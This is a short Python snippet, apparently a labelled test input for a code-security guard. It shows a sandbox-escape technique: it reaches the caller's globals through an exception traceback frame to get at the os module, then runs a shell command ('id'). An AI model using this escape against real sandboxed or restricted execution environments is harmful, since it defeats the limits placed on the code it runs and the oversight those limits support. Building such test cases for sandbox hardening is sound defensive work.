# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: the frame of a caught exception's traceback
try:
    1 / 0
except ZeroDivisionError as error:
    frame = error.__traceback__.tb_frame
return "ESCAPED " + frame.f_back.f_globals["os"].popen("id").read()
